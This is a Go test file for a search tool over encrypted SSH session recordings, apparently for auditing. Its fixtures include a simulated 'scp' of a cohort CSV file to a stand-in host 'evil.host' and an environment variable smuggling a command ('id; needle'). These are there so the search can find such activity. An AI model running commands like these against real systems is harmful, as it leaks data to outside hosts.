package find

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"

	"entry/e2e/testkit"
	"entry/session/recording"
)

var start = time.Date(2026, 3, 2, 14, 0, 0, 0, time.UTC)

func id(n int) string { return fmt.Sprintf("01JCHZ%020d", n) }

// auditor is a key pair that only these tests use.
var auditor = sync.OnceValue(func() *age.X25519Identity {
	k, err := age.GenerateX25519Identity()
	if err != nil {
		panic(err)
	}
	return k
})

// frame is a frame at a second.
func frame(at float64, channel uint32, k recording.Kind, data string) recording.Frame {
	return recording.Frame{At: time.Duration(at * float64(time.Second)), Channel: channel, Kind: k, Data: []byte(data)}
}

// record writes a recording of frames into dir, and its end if whole says so.
func record(t testing.TB, dir string, n int, user string, whole bool, frames ...recording.Frame) {
	t.Helper()
	h := recording.Header{ID: id(n), User: user, Lab: "tinker", Target: "home.tinker", Start: start}
	s, file, key, err := recording.NewSealer(h, []age.Recipient{auditor().Recipient()})
	testkit.Check(t, err)
	c, err := recording.NewCompressor()
	testkit.Check(t, err)
	var plain []byte
	last := uint64(0)
	cut := func(final bool) {
		segment, err := s.Seal(c, nil, plain, last, final)
		testkit.Check(t, err)
		file, plain = append(file, segment...), plain[:0]
	}
	for _, f := range frames {
		at := uint64(f.At.Microseconds())
		plain = recording.AppendFrame(plain, at-last, f.Kind, f.Channel, f.Data)
		if last = at; len(plain) > recording.SegmentSize/2 {
			cut(false)
		}
	}
	cut(whole)
	testkit.Check(t, os.WriteFile(filepath.Join(dir, id(n)+recording.Ext), file, 0o600))
	testkit.Check(t, os.WriteFile(filepath.Join(dir, id(n)+recording.KeyExt), key, 0o600))
}

// shell are the frames of a shell with a terminal, in which key by key keys were typed.
func shell(channel uint32, said ...string) []recording.Frame {
	all := []recording.Frame{
		frame(0, channel, recording.Request, `{"type":"channel-open","name":"session"}`),
		frame(0, channel, recording.Request, `{"type":"env","env":{"LC_RUN":"id; needle"}}`),
		frame(0, channel, recording.Request, `{"type":"pty-req","cols":80,"rows":24}`),
		frame(0, channel, recording.Request, `{"type":"shell"}`),
	}
	at := 1.0
	for _, s := range append([]string{"$ "}, said...) {
		all = append(all, frame(at, channel, recording.Output, s))
		at++
	}
	return append(all, frame(at, channel, recording.Request, `{"type":"channel-close","name":"session","coverage":"recorded"}`))
}

// found is what a search yields, each result in a line.
func found(t testing.TB, dir string, pattern string, q Query) []string {
	t.Helper()
	list, err := recording.List(dir)
	testkit.Check(t, err)
	if q.Match, err = (Pattern{}).Compile(pattern); err != nil {
		t.Fatal(err)
	}
	var all []string
	for r, err := range Search(context.Background(), Options{Dir: dir, Identities: []age.Identity{auditor()}, Workers: 3}, list, q) {
		testkit.Check(t, err)
		if u := r.Unread; u != nil {
			all = append(all, fmt.Sprintf("%s %v missing=%v: %s", u.Session.ID[24:], u.Channels, u.Missing, u.Why))
			continue
		}
		h := r.Hit
		if h.Hidden {
			h.Note = strings.TrimSpace(h.Note + " hidden")
		}
		all = append(all, strings.TrimSpace(fmt.Sprintf("%s/%d%s +%v %s: %s %s", h.Session.ID[24:], h.Channel, h.Pane, h.At, h.In, h.Text, h.Note)))
	}
	return all
}

func same(t *testing.T, what string, got []string, want ...string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("%s: got\n%s\nwant\n%s", what, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestSearchLooksEverywhere(t *testing.T) {
	dir := t.TempDir()
	record(t, dir, 1, "alice", true, shell(1, "n", "e", "edle\r\nout \x1b[1mnee\x1b[0mdle\r\n", "gone needle", "\r\x1b[2K", "$ ")...)
	record(t, dir, 2, "bob", true,
		frame(0, 0, recording.Request, `{"type":"exec","command":"cat needle"}`),
		frame(1, 0, recording.Output, "\x1b]0;needle\a"),
		frame(2, 0, recording.Request, `{"type":"channel-close","coverage":"recorded"}`),
		frame(3, 1, recording.Request, `{"type":"shell"}`),
		frame(4, 1, recording.Input, "cd x\nneed"), frame(5, 1, recording.Input, "le y\n"),
		frame(6, 1, recording.Request, `{"type":"channel-close","coverage":"recorded"}`),
		frame(7, 2, recording.Request, `{"type":"subsystem","name":"sftp"}`),
		frame(8, 2, recording.Transfer, `{"protocol":"sftp","operation":"rename","path":"/x","to":"/needle","size":0,"began":"2026-03-02T14:00:08Z","ended":"2026-03-02T14:00:08Z","outcome":"ok"}`),
		frame(9, 2, recording.Request, `{"type":"channel-close","coverage":"manifest"}`))
	manifest := "02 [2] missing=false: manifest: the names of its files, not what was in them"
	same(t, "all", found(t, dir, "needle", Query{}),
		"01/1 +0s input: LC_RUN=id; needle environment",
		"01/1 +4s output: $ needle", "01/1 +4s output: out needle", "01/1 +5s output: gone needle erased",
		"02/0 +0s commands: cat needle", "02/0 +1s output: needle concealed", "02/1 +5s input: needle y", "02/2 +8s files: /needle sftp rename, ok", manifest)
	same(t, "commands", found(t, dir, "needle", Query{In: []Field{Commands}}),
		"01/1 +4s commands: needle", "02/0 +0s commands: cat needle", "02/1 +5s commands: needle y")
	same(t, "output", found(t, dir, "needle$", Query{In: []Field{Output}}),
		"01/1 +4s output: $ needle", "01/1 +4s output: out needle", "01/1 +5s output: gone needle erased", "02/0 +1s output: needle concealed", manifest)
	same(t, "times", found(t, dir, "needle", Query{Since: start.Add(4500 * time.Millisecond), Until: start.Add(6 * time.Second)}),
		"01/1 +4s output: $ needle", "01/1 +4s output: out needle", // which stood there still
		"01/1 +5s output: gone needle erased", "02/1 +5s input: needle y", manifest)
	cat, err := Pattern{}.Compile("^cat")
	testkit.Check(t, err)
	same(t, "sessions with a command", found(t, dir, "needle y", Query{Command: func(b []byte) bool { return cat(b) != nil }}), "02/1 +5s input: needle y", manifest)
	same(t, "keys", found(t, dir, "nothing", Query{In: []Field{Input}}), "01 [] missing=false: the keys that were typed aren't kept: its rule doesn't say record_input", manifest)
}

// What a client said beside its commands is looked at, and so is what is no UTF-8: by its
// bytes, and as what it is in Latin-1.
func TestSearchLooksAtBytes(t *testing.T) {
	dir := t.TempDir()
	raw := func(s string) string { return `{"raw":"` + base64.StdEncoding.EncodeToString([]byte(s)) + `"}` }
	record(t, dir, 1, "alice", true,
		frame(0, 0, recording.Request, `{"type":"env","env":{"LC_X":`+raw("\xf8y")+`}}`),
		frame(0, 0, recording.Request, `{"type":"pty-req","term":`+raw("x\xf8y")+`}`),
		frame(0, 0, recording.Request, `{"type":"x11-req","x11":{"protocol":"øy","cookie":`+raw("c\xf8y")+`}}`),
		frame(1, 0, recording.Request, `{"type":"exec","command":`+raw("rm \xf8y.txt")+`}`),
		frame(2, 0, recording.Request, `{"type":"signal","name":`+raw("\xf8y")+`}`),
		frame(3, 0, recording.Request, `{"type":"channel-close","coverage":"recorded"}`),
		frame(4, 1, recording.Request, `{"type":"subsystem","name":`+raw("s\xf8y")+`}`),
		frame(5, 1, recording.Transfer, `{"protocol":"sftp","operation":"put","direction":"upload","path":`+raw("/\xf8y")+`,"size":1,"began":"2026-03-02T14:00:08Z","ended":"2026-03-02T14:00:08Z","outcome":"ok"}`),
		frame(6, 1, recording.Request, `{"type":"channel-close","coverage":"manifest"}`),
		frame(7, 2, recording.Request, `{"type":"channel-open","name":"direct-tcpip","destination":"db:1","opening":{"host":"db","origin":`+raw("o\xf8y")+`}}`),
		frame(8, 2, recording.Request, `{"type":"channel-close","coverage":"metadata"}`))
	want := []string{
		"01/0 +0s input: LC_X=\xf8y environment", "01/0 +0s input: x\xf8y terminal type", "01/0 +0s input: øy X11 protocol", "01/0 +0s input: c\xf8y X11 cookie",
		"01/0 +1s commands: rm \xf8y.txt", "01/0 +2s input: \xf8y signal", "01/1 +4s commands: s\xf8y", "01/1 +5s files: /\xf8y sftp put, ok, 1 B", "01/2 +7s input: o\xf8y forward from",
		"01 [1] missing=false: manifest: the names of its files, not what was in them", "01 [2] missing=false: metadata: nothing of what passed is kept"}
	same(t, "letters", found(t, dir, "øy", Query{}), want...)
	same(t, "bytes", found(t, dir, "\xf8y", Query{}), want...)
	h := Hit{Session: recording.Info{Header: recording.Header{ID: id(1)}}, In: Commands, Text: "rm \xf8y\u009b.txt", To: 2}
	if line := h.String(); !strings.HasSuffix(line, `commands: rm \xf8y?.txt`) {
		t.Errorf("%q", line)
	}
	if line := testkit.Must(json.Marshal(h.Line("")))(t); !bytes.Contains(line, []byte(`"line":`+raw(h.Text))) {
		t.Errorf("%s", line)
	}
}

// Whatever keeps a search from looking at everything is named.
func TestSearchNamesWhatItDidNotLookAt(t *testing.T) {
	dir := t.TempDir()
	needle := frame(1, 0, recording.Output, "needle\n")
	record(t, dir, 1, "cut", false, needle)
	record(t, dir, 2, "without key", true, needle)
	testkit.Check(t, os.Remove(filepath.Join(dir, id(2)+recording.KeyExt)))
	record(t, dir, 3, "spoilt", true, needle)
	path := filepath.Join(dir, id(3)+recording.Ext)
	b, err := os.ReadFile(path)
	testkit.Check(t, err)
	b[len(b)-60] ^= 1
	testkit.Check(t, os.WriteFile(path, b, 0o600))
	record(t, dir, 4, "other key", true, needle)
	key, err := os.ReadFile(filepath.Join(dir, id(1)+recording.KeyExt))
	testkit.Check(t, err)
	testkit.Check(t, os.WriteFile(filepath.Join(dir, id(4)+recording.KeyExt), key, 0o600))
	testkit.Check(t, os.WriteFile(filepath.Join(dir, id(5)+recording.Ext), []byte("no recording"), 0o600))
	record(t, dir, 6, "gap", true, needle, frame(2, 0, recording.Gap, "full"), frame(3, 0, recording.Request, `{"type":"channel-close","coverage":"partial","missing":[{"why":"bulk","stream":"output","bytes":5}]}`),
		frame(3, 1, recording.Request, `{"type":"channel-close","coverage":"metadata"}`), frame(3, 2, recording.Request, `{"type":"channel-close","coverage":"metadata"}`), frame(3, 3, recording.Request, `{"type":"channel-close","coverage":"refused"}`),
		frame(3, 4, recording.Request, `{"type":"channel-close","coverage":"partial","missing":[{"why":"share","stream":"output","bytes":7}]}`))
	record(t, dir, 7, "no end", true, needle)
	for _, line := range found(t, dir, "needle", Query{In: []Field{Files}}) {
		if strings.HasPrefix(line, "06 [0]") || strings.HasPrefix(line, "06 [1 2]") || strings.HasPrefix(line, "06 [4]") {
			t.Errorf("a search of files' names says %q", line)
		}
	}
	for _, q := range []Query{{}, {Command: func([]byte) bool { return false }}} {
		var unread, hits []string
		for _, line := range found(t, dir, "needle", q) {
			if strings.Contains(line, "missing=") {
				unread = append(unread, line)
			} else {
				hits = append(hits, line[:2])
			}
		}
		want := []string{
			"01 [] missing=true: it was cut: searched", "02 [] missing=true: open recording " + id(2), "03 [] missing=true: recording " + id(3), "04 [] missing=true: open recording " + id(4),
			"05 [] missing=true: ", "06 [] missing=true: it has gaps: 1", "06 [1 2] missing=false: metadata", "06 [0] missing=false: partial: 5 B of output missing", "06 [4] missing=true: partial: 7 B of output missing", "07 [0] missing=true: partial: its end is missing"}
		if len(unread) != len(want) {
			t.Errorf("got %q", unread)
			continue
		}
		for i, w := range want {
			if !strings.HasPrefix(unread[i], w) {
				t.Errorf("got %q, want %q", unread[i], w)
			}
		}
		if q.Command == nil && !slices.Equal(slices.Compact(hits), []string{"01", "06", "07"}) {
			t.Errorf("hits in %v", hits)
		}
	}
}

// Many hits come in order, each once, and who takes them sees to the pace; who stops
// leaves nothing running.
func TestSearchIsInOrder(t *testing.T) {
	dir := t.TempDir()
	for n := 1; n <= 9; n++ {
		var frames []recording.Frame
		for i := range 500 {
			frames = append(frames, frame(float64(i)/100, 0, recording.Output, fmt.Sprintf("%d line %d\n", n, i)))
		}
		record(t, dir, n, "alice", true, append(frames, frame(9, 0, recording.Request, `{"type":"channel-close","coverage":"recorded"}`))...)
	}
	var texts, want []string
	for n := 1; n <= 9; n++ {
		for i := range 500 {
			want = append(want, fmt.Sprintf("%d line %d", n, i))
		}
	}
	list, err := recording.List(dir)
	testkit.Check(t, err)
	match, err := Pattern{}.Compile("line [0-9]+")
	testkit.Check(t, err)
	o := Options{Dir: dir, Identities: []age.Identity{auditor()}, Workers: 4}
	for r, err := range Search(context.Background(), o, list, Query{Match: match}) {
		testkit.Check(t, err)
		texts = append(texts, r.Hit.Text)
	}
	if !slices.Equal(texts, want) {
		t.Errorf("%d lines", len(texts))
	}
	for r, err := range Search(context.Background(), o, list, Query{Match: match}) {
		testkit.Check(t, err)
		if r.Hit.Text != "1 line 0" {
			t.Error(r.Hit.Text)
		}
		break
	}
	err = nil
	for _, e := range Search(context.Background(), o, list, Query{Match: func([]byte) []int { panic("oops") }}) {
		err = e
	}
	if err == nil || !strings.Contains(err.Error(), "oops") {
		t.Errorf("a panic gives %v", err)
	}
}

func TestPattern(t *testing.T) {
	for _, tc := range []struct {
		p             Pattern
		pattern, line string
		want          string
	}{
		{Pattern{}, "a.c", "xabc", "abc"},
		{Pattern{Fixed: true}, "a.c", "xabca.c", "a.c"},
		{Pattern{FoldCase: true}, "secret", "my SeCReT", "SeCReT"},
		{Pattern{FoldCase: true}, "a|B", "xb", "b"},
		{Pattern{FoldCase: true}, "k", "\u212a", "\u212a"}, // the sign of kelvin
		{Pattern{FoldCase: true}, "über", "ÜBER", "ÜBER"},
		{Pattern{}, "(?i)abc", "xABC", "ABC"},
		{Pattern{FoldCase: true, Fixed: true}, "A+[", "xa+[", "a+["},
		{Pattern{Fixed: true}, "none", "non", ""},
		{Pattern{}, "CANARY", "a CAN\u200dA\ufe0fR\u034fY b", "CAN\u200dA\ufe0fR\u034fY"},
		{Pattern{}, "CANARY$", "CANA\u0301RY\u0302\u0300", "CANA\u0301RY\u0302\u0300"},
		{Pattern{}, "echo", "x; ec\x00ho y", "ec\x00ho"},
		{Pattern{Fixed: true}, "Gru\u0308ße", "viele Grüße", "Grüße"},
		{Pattern{Fixed: true, FoldCase: true}, "grüße", "viele GRU\u0308SSE, Gru\u0308ße", "Gru\u0308ße"},
		{Pattern{}, "^ab$", "\u200ba\u00adb\u3164", "a\u00adb\u3164"},
		{Pattern{}, "b", "\xffa\u0300\xfeb", "b"},
		{Pattern{}, "none", "n\u200do", ""},
		{Pattern{Fixed: true}, "patient file", "a ｐａｔｉｅｎｔ ｆｉｌｅ", "ｐａｔｉｅｎｔ ｆｉｌｅ"},
		{Pattern{FoldCase: true}, "^(file|x)s 12$", "ＦＩＬＥＳ １２", "ＦＩＬＥＳ １２"},
		{Pattern{Fixed: true}, "office", "my oﬃce", "oﬃce"},
		{Pattern{Fixed: true}, "ｆｉｌｅ", "a file", "file"},
		{Pattern{}, "ｆ＋", "f+", ""}, // the sign is no letter
		{Pattern{}, "Bjørk", "rm Bj\xf8rk.txt", "Bj\xf8rk"},
		{Pattern{FoldCase: true}, "ÅRLIG$", "M\xfcllerpat \xe5rlig", "\xe5rlig"},
		{Pattern{}, "muller", "m\xfcller å", "m\xfcller"},
		{Pattern{Fixed: true}, "10 € “ja”", "10 \x80 \x93ja\x94", "10 \x80 \x93ja\x94"},
		{Pattern{}, "\x80 \x93", "10 \x80 \x93ja\x94", "\x80 \x93"},
		{Pattern{}, "ø[a-z]+", "grønn og gr\xf8nn", "ønn"},
		{Pattern{}, "og gr\xf8nn", "grønn og gr\xf8nn", "og gr\xf8nn"},
		{Pattern{}, "og gr\\xf8nn", "grønn og gr\xf8nn", "og gr\xf8nn"},
		{Pattern{Fixed: true}, "og gr\\xf8nn", "grønn og gr\xf8nn", "og gr\xf8nn"},
		{Pattern{Fixed: true}, "\xf0\xcf", "\xf0\xd2 \xf0\xcf\xd7", "\xf0\xcf"}, // KOI8, by its bytes
		{Pattern{Fixed: true}, "\xc3\xa5\xff", "a\xc3\xa5\xffb", "\xc3\xa5\xff"},
		{Pattern{Fixed: true}, "\xf8", "gr\xc3\xb8nn", "\xc3\xb8"},
		{Pattern{}, "ø", "gr\xe5", ""},
		{Pattern{FoldCase: true}, "[@", "", "error"},
	} {
		match, err := tc.p.Compile(tc.pattern)
		if err != nil {
			if tc.want != "error" {
				t.Errorf("%v %q: %v", tc.p, tc.pattern, err)
			}
			continue
		}
		got := ""
		if m := match([]byte(tc.line)); m != nil {
			got = tc.line[m[0]:m[1]]
		}
		if got != tc.want {
			t.Errorf("%v %q in %q gives %q, not %q", tc.p, tc.pattern, tc.line, got, tc.want)
		}
	}
}

// A line counts from when it stood there to when it went, as far as it had come.
func TestSearchCountsWhatStoodThere(t *testing.T) {
	dir := t.TempDir()
	record(t, dir, 1, "alice", true, shell(1, "long needle", "", "", "", "\r\x1b[2K$ need", "", "le typed", "", "", "\r\n", "\x1b[H\x1b[2J", "$ ")...)
	for _, tc := range []struct {
		pattern      string
		since, until float64 // seconds; zero is none
		want         []string
	}{
		{"needle", 0, 0, []string{"01/1 +2s output: $ long needle erased", "01/1 +8s output: $ needle typed erased"}},
		{"needle", 3, 4, []string{"01/1 +2s output: $ long needle erased"}},
		{"needle", 6, 8, nil},
		{"need$", 6.5, 7.5, []string{"01/1 +6s output: $ need erased"}},
		{"needle", 8, 9, []string{"01/1 +8s output: $ needle typed erased"}},
		{"needle", 11, 0, []string{"01/1 +8s output: $ needle typed erased"}},
		{"needle", 12, 0, nil},
	} {
		q := Query{In: []Field{Output}}
		at := func(s float64) time.Time { return start.Add(time.Duration(s * float64(time.Second))) }
		if tc.since > 0 {
			q.Since = at(tc.since)
		}
		if tc.until > 0 {
			q.Until = at(tc.until)
		}
		same(t, fmt.Sprintf("%s from %v to %v", tc.pattern, tc.since, tc.until), found(t, dir, tc.pattern, q), tc.want...)
	}
}

// What stood beside a spinner is found in any span in which it did, and what scrolled off
// and came back with a larger window, in the spans of both.
func TestSearchFindsInSpans(t *testing.T) {
	dir := t.TempDir()
	frames := shell(1)[:4:4]
	for i := range 100 {
		frames = append(frames, frame(1+float64(i)*0.06, 1, recording.Output, "\r"+"|abcdefgh"[i%9:i%9+1]+" kowalski.tar"))
	}
	frames = append(frames, frame(7, 1, recording.Output, "\r\x1b[Kout needle\r\n$ "), frame(8, 1, recording.Resize, "80x1"), frame(9, 1, recording.Resize, "80x9"), frame(12, 1, recording.Output, "\x1b[H\x1b[2J"))
	record(t, dir, 1, "alice", true, append(frames, frame(13, 1, recording.Request, `{"type":"channel-close","name":"session","coverage":"recorded"}`))...)
	at := func(ms int) time.Time { return start.Add(time.Duration(ms) * time.Millisecond) }
	for ms := 1100; ms < 6800; ms += 70 {
		if got := found(t, dir, "kowalski.tar", Query{Since: at(ms), Until: at(ms + 30)}); len(got) == 0 {
			t.Errorf("it isn't found at %d ms", ms)
		}
	}
	for _, tc := range []struct{ since, until, hits int }{{0, 13000, 1}, {7100, 7900, 1}, {8100, 8900, 0}, {9100, 11900, 1}, {12100, 13000, 0}} {
		if got := found(t, dir, "out needle", Query{Since: at(tc.since), Until: at(tc.until)}); len(got) != tc.hits {
			t.Errorf("from %d to %d ms: %q", tc.since, tc.until, got)
		}
	}
}

// What slides, and what comes and goes too shortly to be told each time, is found in any span
// in which it was to be read.
func TestSearchFindsWhatMovesInSpans(t *testing.T) {
	for name, draw := range map[string]func(i int) string{
		"a ticker":    func(i int) string { return "\r\x1b[K" + strings.Repeat(" ", 40-i) + "patient kowalski.tar" },
		"insert mode": func(i int) string { return []string{"\r\x1b[4hx\x1b[4l", "patient kowalski.tar"}[max(0, 1-i)] },
		"flashes":     func(i int) string { return "\r\x1b[K" + []string{"patient kowalski.tar", ""}[i%2] },
	} {
		dir := t.TempDir()
		frames := shell(1)[:4:4]
		for i := range 40 {
			frames = append(frames, frame(1+float64(i)*0.06, 1, recording.Output, draw(i)))
		}
		record(t, dir, 1, "alice", true, append(frames, frame(3.4, 1, recording.Output, "\r\x1b[2K"), frame(9, 1, recording.Request, `{"type":"channel-close","name":"session","coverage":"recorded"}`))...)
		at := func(ms int) time.Time { return start.Add(time.Duration(ms) * time.Millisecond) }
		for ms := 1010; ms < 3300; ms += 70 {
			if got := found(t, dir, "kowalski.tar", Query{Since: at(ms), Until: at(ms + 60)}); len(got) == 0 {
				t.Errorf("%s: it isn't found at %d ms", name, ms)
			}
		}
		if got := found(t, dir, "kowalski.tar", Query{Since: at(4500)}); len(got) > 0 {
			t.Errorf("%s: found later: %q", name, got)
		}
	}
}

// A title is found in any span in which it showed, and so is a link when it came.
func TestSearchFindsTitles(t *testing.T) {
	dir := t.TempDir()
	record(t, dir, 1, "alice", true, shell(1, "\x1b]0;needle one\a", "x", "\x1b]2;other\a", "y", "\x1b]0;needle one\a", "\x1b]8;;http://needle\alink", "z")...)
	at := func(s float64) time.Time { return start.Add(time.Duration(s * float64(time.Second))) }
	title := "01/1 +2s output: needle one concealed"
	again := "01/1 +6s output: needle one returned"
	link := "01/1 +7s output: 8;;http://needle concealed"
	for _, tc := range []struct {
		since, until float64
		want         []string
	}{{0, 20, []string{title, link}}, {2.5, 3.5, []string{title}}, {4.5, 5.5, nil}, {6.2, 6.9, []string{again}}, {8.1, 20, []string{again}}, {7, 7.5, []string{link, again}}} {
		same(t, fmt.Sprintf("from %v to %v", tc.since, tc.until), found(t, dir, "needle", Query{Since: at(tc.since), Until: at(tc.until), In: []Field{Output}}), tc.want...)
	}
}

// What matches in a line that is drawn again and again is one hit; what is new there,
// another.
func TestSearchFindsOnceWhatIsDrawnAgain(t *testing.T) {
	dir := t.TempDir()
	said := []string{"\r\n"}
	for i := range 90 {
		said = append(said, fmt.Sprintf("\r%d%% of needle", i+10))
	}
	record(t, dir, 1, "alice", true, shell(1, append(said, "\r\nok")...)...)
	same(t, "the name", found(t, dir, "needle", Query{In: []Field{Output}}), "01/1 +3s output: 10% of needle erased", "01/1 +1m32s output: 99% of needle")
	same(t, "a number", found(t, dir, "^42% of needle", Query{}), "01/1 +35s output: 42% of needle redrawn")
	same(t, "in a span", found(t, dir, "needle", Query{Since: start.Add(40 * time.Second), Until: start.Add(50 * time.Second)}), "01/1 +40s output: 47% of needle redrawn")
}

// A command of which no line stood there whole is found as a command; one that stands on
// a line as it was typed is found once, as that.
func TestSearchFindsCommandsThatNoLineHas(t *testing.T) {
	dir := t.TempDir()
	record(t, dir, 1, "alice", true, shell(1,
		"scp cohort-of-tinker.csv wrong:", "\b\b\b\b\b\b\x1b[K", "evil.host:\r\n\x1b[A\r\x1b[27Cother-text\r\n", "$ ", "\x1b[H\x1b[2J$ ", "", "n", "eedle.csv evil.host:", "\r\nnot found\r\n$ ")...)
	same(t, "commands that no line has", found(t, dir, "csv evil", Query{}),
		"01/1 +9s output: $ needle.csv evil.host:", "01/1 +4s output: $ scp cohort-of-tinker.csv evil.host: passing", "01/1 +4s commands: scp cohort-of-tinker.csv evil.host:")
	same(t, "commands alone", found(t, dir, "csv evil", Query{In: []Field{Commands}}),
		"01/1 +4s commands: scp cohort-of-tinker.csv evil.host:", "01/1 +10s commands: needle.csv evil.host:")
}
